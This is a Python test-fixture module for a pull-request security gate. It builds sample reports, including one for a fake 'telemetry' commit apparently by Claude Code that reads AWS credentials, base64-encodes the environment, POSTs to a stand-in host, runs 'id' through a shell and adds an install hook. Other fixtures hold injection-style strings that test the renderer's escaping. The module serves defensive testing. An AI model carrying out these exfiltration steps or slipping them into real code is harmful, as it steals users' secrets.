"""Realistic reports that the reporters' tests share."""

from __future__ import annotations

import itertools
from dataclasses import replace

from gate.model.attribution import AttributionEvidence, CommitAttribution
from gate.model.behaviour import Behaviour, BehaviourDiff, BehaviourKind
from gate.model.change import Change, ChangedFile, Commit, Hunk
from gate.model.exercised import Exercised, FileExercised, UnrunCall, UnrunLines, UnrunReason
from gate.model.finding import Finding, fingerprinted
from gate.model.location import Location
from gate.model.report import Report, SandboxReport
from gate.model.rule import Confidence, FindingStage, RuleMeta, Severity
from gate.model.run import Completeness, NotExercised, Outcome, Phase, Probe, RunRecord
from gate.model.score import Contribution, Score, Thresholds, Verdict
from gate.model.sensitive import SensitiveKind
from gate.model.stage import Stage, StageOutcome

BASE = "3f2a9c1e5b7d8f60a1b2c3d4e5f60718293a4b5c"
HEAD = "9d41e07ac2b8f3561f0e9d8c7b6a5948372615fe"


def _file(path: str, added: int, *, status: str = "modified", language: str | None = "python") -> ChangedFile:
    return ChangedFile(
        path=path,
        old_path=None,
        status="added" if status == "added" else "modified",
        language=language,
        hunks=(Hunk(old_start=10, old_count=2, new_start=10, new_count=added),),
        old_mode=None if status == "added" else "100644",
        new_mode="100644",
        old_blob=None,
        new_blob="aa" * 20,
        binary=False,
        size=2_140,
    )


def _commit(sha: str, subject: str, name: str) -> Commit:
    return Commit(
        sha=sha,
        parents=(BASE,),
        author_name=name,
        author_email=f"{name.split(maxsplit=1)[0].lower()}@shop.example",
        committer_name=name,
        committer_email=f"{name.split(maxsplit=1)[0].lower()}@shop.example",
        authored_at=1_760_000_000,
        message=subject + "\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
    )


CHANGE = Change(
    repo="shop",
    base=BASE,
    head=HEAD,
    merge_base=BASE,
    commits=(
        _commit("51c0ffee" * 5, "Cart: cache exchange rates between requests", "Mina Okafor"),
        _commit(HEAD, "Telemetry: send anonymous usage counters", "Mina Okafor"),
    ),
    files=(
        _file("shop/telemetry.py", 41, status="added"),
        _file("shop/cart.py", 12),
        _file("setup.py", 9),
        _file("docs/rates.md", 4, language=None),
    ),
    branch="claude/telemetry-counters",
)


def _rule(
    rule: str, title: str, stage: FindingStage, severity: Severity, topic: str, cwe: int, help_: str, fix: str
) -> RuleMeta:
    return RuleMeta(
        id=rule,
        title=title,
        stage=stage,
        severity=severity,
        confidence=Confidence.HIGH,
        help=help_,
        remediation=fix,
        topic=topic,
        cwe=(cwe,),
        attack=("T1552.001",) if topic == "credential" else (),
    )


RULES = {
    r.id: r
    for r in (
        _rule(
            "behaviour.canary-sent",
            "A planted secret left the process",
            FindingStage.BEHAVIOUR,
            Severity.CRITICAL,
            "credential",
            522,
            "The sandbox holds made-up credentials that no honest program needs. This code sent one.",
            "Remove the code that reads and sends it; rotate real credentials if this ever ran with them.",
        ),
        _rule(
            "behaviour.new-connection",
            "Connects to a host it did not connect to before",
            FindingStage.BEHAVIOUR,
            Severity.HIGH,
            "network",
            829,
            "Code that starts talking to a new host can send data out or fetch more code.",
            "Remove the connection, or name the host in gate.toml on the main branch if it is wanted.",
        ),
        _rule(
            "py.env-harvest",
            "Copies the whole environment",
            FindingStage.PRESCREEN,
            Severity.HIGH,
            "credential",
            526,
            "The environment of a build holds tokens. Programs read the few names that they need.",
            "Read the named variables that the code needs instead of all of them.",
        ),
        _rule(
            "py.install-hook",
            "Runs code when the package is installed",
            FindingStage.PRESCREEN,
            Severity.MEDIUM,
            "exec",
            506,
            "An overridden install command runs on the machine of everybody who installs the package.",
            "Move the work out of setup.py, or into a build step that people start themselves.",
        ),
        _rule(
            "bandit.B311",
            "Standard pseudo-random generator",
            FindingStage.PRESCREEN,
            Severity.LOW,
            "crypto",
            330,
            "The random module can be predicted and is not fit for secrets.",
            "Use the secrets module where the value must not be guessed.",
        ),
    )
}


def _finding(
    rule: str, message: str, path: str, line: int, shape: str, confidence: Confidence, **evidence: str
) -> Finding:
    meta = RULES[rule]
    return Finding(
        rule_id=rule,
        stage=meta.stage,
        severity=meta.severity,
        confidence=confidence,
        message=message,
        locations=(Location(path=path, line=line, end_line=line + 2 if line == 31 else None),),
        shape=shape,
        topic=meta.topic,
        cwe=meta.cwe,
        evidence=evidence,
        hard_block=rule == "behaviour.canary-sent",
    )


FINDINGS = fingerprinted(
    (
        _finding(
            "behaviour.canary-sent",
            "A planted AWS key was read from ~/.aws/credentials and sent over HTTP.",
            "shop/telemetry.py",
            31,
            "canary aws-credentials in net 198.51.100.7:443 python",
            Confidence.HIGH,
            subject="aws-credentials in net 198.51.100.7:443",
            read="/work/home/.aws/credentials",
            sent="POST http://collect.invalid/v1/ping",
            process="python > shop/telemetry.py",
        ),
        _finding(
            "behaviour.new-connection",
            "Looks up and connects to a host that the base never contacts.",
            "shop/telemetry.py",
            33,
            "connect 198.51.100.7:443 python",
            Confidence.HIGH,
            subject="198.51.100.7:443",
            address="198.51.100.7:443",
            host="collect.invalid",
        ),
        _finding(
            "py.env-harvest",
            "The whole environment is turned into a dictionary and encoded.",
            "shop/telemetry.py",
            18,
            "dict(os.environ)",
            Confidence.HIGH,
            source='payload = base64.b64encode(json.dumps(dict(os.environ)).encode("utf-8"))',
        ),
        _finding(
            "py.install-hook",
            "setup.py overrides the install command.",
            "setup.py",
            14,
            "class PostInstall(install):",
            Confidence.MEDIUM,
            **{"also seen by": "dependency.install-hook"},
            source="class PostInstall(install):",
        ),
        _finding(
            "bandit.B311",
            "Standard pseudo-random generators are not suitable for security purposes.",
            "shop/cart.py",
            22,
            "jitter = random.random() * 0.2",
            Confidence.LOW,
            source="jitter = random.random() * 0.2",
        ),
    )
)


def _run(
    phase: Phase,
    target: str,
    side: str,
    outcome: Outcome,
    seconds: float,
    peak: int | None,
    code: int | None = 0,
    path: str | None = "shop/telemetry.py",
) -> RunRecord:
    return RunRecord(
        probe=Probe(id=f"{phase}:{target}", phase=phase, target=target, path=path, argv=("python3",)),
        side="base" if side == "base" else "head",
        outcome=outcome,
        exit_code=code,
        seconds=seconds,
        peak_memory=peak,
        completed=outcome is Outcome.COMPLETED,
        trace=None,
        completeness=Completeness(),
        stdout=b"counting carts\n",
        stdout_total=15,
    )


RUNS = (
    _run("import", "shop.cart", "base", Outcome.COMPLETED, 0.41, 31 << 20, path="shop/cart.py"),
    _run("import", "shop.cart", "head", Outcome.COMPLETED, 0.43, 31 << 20, path="shop/cart.py"),
    _run("import", "shop.telemetry", "head", Outcome.COMPLETED, 0.92, 38 << 20),
    _run("install", "setup.py", "base", Outcome.COMPLETED, 1.31, 44 << 20, path="setup.py"),
    _run("install", "setup.py", "head", Outcome.EXITED_NONZERO, 1.77, 46 << 20, 1, path="setup.py"),
    _run("test", "tests/test_cart.py", "base", Outcome.COMPLETED, 2.20, 61 << 20, path="tests/test_cart.py"),
    _run(
        "test", "tests/test_cart.py", "head", Outcome.TIMED_OUT, 20.0, None, None, path="tests/test_cart.py"
    ),
    replace(
        _run(
            "test", "tests/test_mail.py", "head", Outcome.COMPLETED, 0.8, 40 << 20, path="tests/test_mail.py"
        ),
        not_run="not run: the tests could not be collected (RuntimeError: <b>no</b> `DSN` @everyone)",
    ),
)


_TIMES = itertools.count(0.411, 0.043)
"""Seconds from the beginning of the run; a step every 43 ms."""


def _seen(kind: BehaviourKind, subject: str, actor: str = "python", **detail: str) -> Behaviour:
    return Behaviour(
        first_seen=next(_TIMES),
        kind=kind,
        subject=subject,
        actor=actor,
        detail=detail,
        probes=("import:shop.telemetry",),
        at=Location(path="shop/telemetry.py", line=33),
    )


DIFF = BehaviourDiff(
    new=(
        _seen(BehaviourKind.CANARY, "aws-credentials", canary="aws-credentials", channel="read"),
        _seen(
            BehaviourKind.CANARY,
            "aws-credentials in net 198.51.100.7:443",
            canary="aws-credentials",
            channel="net",
            encoding="base64",
        ),
        _seen(BehaviourKind.READ, "/work/home/.aws/credentials"),
        _seen(BehaviourKind.DNS, "collect.invalid", qtype="A"),
        _seen(BehaviourKind.CONNECT, "198.51.100.7:443", family="inet", proto="tcp", host="collect.invalid"),
        _seen(
            BehaviourKind.HTTP,
            "POST collect.invalid /v1/ping",
            scheme="http",
            method="POST",
            host="collect.invalid",
        ),
        _seen(BehaviourKind.EXEC, "/bin/sh", "python>sh", argv="sh -c 'id | base64'", cwd="/work/tree"),
    ),
    gone=(_seen(BehaviourKind.WRITE, "/tmp/rates.json"),),
    unchanged_count=17,
)

STAGES = (
    Stage(name="change", outcome=StageOutcome.DONE, seconds=0.08),
    Stage(name="attribution", outcome=StageOutcome.DONE, seconds=0.02),
    Stage(name="prescreen:bandit", outcome=StageOutcome.DONE, seconds=0.61),
    Stage(
        name="prescreen:semgrep",
        outcome=StageOutcome.DEGRADED,
        reason="could not parse shop/legacy.py (line 212); the other 3 files were scanned",
        seconds=3.84,
    ),
    Stage(name="prescreen:pyast", outcome=StageOutcome.DONE, seconds=0.11),
    Stage(name="sandbox", outcome=StageOutcome.DONE, seconds=22.9),
    Stage(name="microvm", outcome=StageOutcome.SKIPPED, reason="not asked for (use --deep)", seconds=0.0),
)


def hostile() -> Report:
    """A pull request that steals credentials, with every section of a report filled."""
    return Report(
        gate_version="0.1.0",
        change=CHANGE,
        verdict=Verdict.FAIL,
        score=Score(
            value=94,
            contributions=(
                Contribution(rule_id="behaviour.canary-sent", points=58.0, why="critical, high confidence"),
                Contribution(
                    rule_id="behaviour.new-connection",
                    points=21.5,
                    why="high, high confidence; confirmed by py.env-harvest",
                ),
                Contribution(rule_id="py.env-harvest", points=9.0, why="high, high confidence"),
                Contribution(rule_id="py.install-hook", points=5.0, why="medium, medium confidence"),
                Contribution(rule_id="bandit.B311", points=0.5, why="low, low confidence"),
            ),
        ),
        thresholds=Thresholds(),
        reasons=(
            "hard block: a planted secret was read and then sent over the network",
            "score 94 is 70 or more",
        ),
        commits=(
            CommitAttribution(commit="51c0ffee" * 5, is_ai=False),
            CommitAttribution(
                commit=HEAD,
                is_ai=True,
                tool="Claude Code",
                confidence="definite",
                evidence=(
                    AttributionEvidence(
                        kind="trailer",
                        where="Co-authored-by",
                        matched="Claude <noreply@anthropic.com>",
                        tool="Claude Code",
                        confidence="definite",
                    ),
                ),
            ),
        ),
        findings=FINDINGS,
        behaviour=DIFF,
        sandbox=SandboxReport(
            backend="docker",
            isolation="container",
            tracer="unotify",
            runs=RUNS,
            not_exercised=(
                NotExercised(path="shop/rates.py", target="import shop.rates", reason="needs numpy"),
            ),
        ),
        stages=STAGES,
        rules=RULES,
        timings={"total": 24.6, "prescreen": 3.9, "sandbox": 22.9},
        settings_origin={"backend": "default", "fail": "gate.toml at base"},
        exercised=figure(),
    )


def figure() -> Exercised:
    """Most of a change ran; a file lacks a package, a bundle cannot be read."""
    return Exercised(
        files=(
            FileExercised(
                path="assets/app.min.js", language="javascript", executable=0, ran=0, unreadable="minified"
            ),
            FileExercised(path="shop/cart.py", language="python", executable=30, ran=30),
            FileExercised(
                path="shop/mail|`x`.py",
                language="python",
                executable=18,
                ran=12,
                unrun=(
                    UnrunLines(
                        spans=((4, 8), (11, 11)),
                        reason=UnrunReason.DEPENDENCY_MISSING,
                        detail="numpy`</code>\x1b[31m @everyone",
                    ),
                ),
                calls=(
                    UnrunCall(
                        first=11,
                        last=11,
                        kind=SensitiveKind.NETWORK,
                        call="requests.post",
                        text="requests.post(URL)",
                        reason=UnrunReason.DEPENDENCY_MISSING,
                        detail="numpy",
                    ),
                ),
            ),
        )
    )


def harmless() -> Report:
    """A pull request with nothing to say about it."""
    return replace(
        hostile(),
        verdict=Verdict.PASS,
        score=Score(value=0),
        reasons=("score 0 is below 30",),
        findings=(),
        behaviour=BehaviourDiff(unchanged_count=17),
        sandbox=replace(
            hostile().sandbox,
            runs=tuple(r for r in RUNS if r.outcome is Outcome.COMPLETED and not r.not_run),
            not_exercised=(),
        ),
        stages=tuple(s for s in STAGES if s.looked),
        rules={},
        exercised=Exercised(
            files=(FileExercised(path="shop/cart.py", language="python", executable=9, ran=9),)
        ),
    )


def blind() -> Report:
    """A check that could not run anything: inconclusive, never green."""
    return replace(
        harmless(),
        verdict=Verdict.INCONCLUSIVE,
        reasons=("the sandbox could not look",),
        behaviour=BehaviourDiff(),
        sandbox=SandboxReport(),
        exercised=None,
        stages=(
            *STAGES[:2],
            Stage(
                name="sandbox",
                outcome=StageOutcome.FAILED,
                reason="no container engine answers; install Docker or pass --backend",
                seconds=0.3,
            ),
        ),
    )


def buried(count: int = 30_000) -> Report:
    """One critical finding under very many cheap ones (RP-4)."""
    low = next(f for f in FINDINGS if f.rule_id == "bandit.B311")
    cheap = (
        replace(
            low,
            locations=(Location(path=f"shop/gen_{i % 300:03d}.py", line=i // 300 + 1),),
            shape=f"x{i} = random.random()",
            fingerprint=f"{i:032x}",
        )
        for i in range(count)
    )
    critical = next(f for f in FINDINGS if f.hard_block)
    return replace(hostile(), findings=(*cheap, critical))
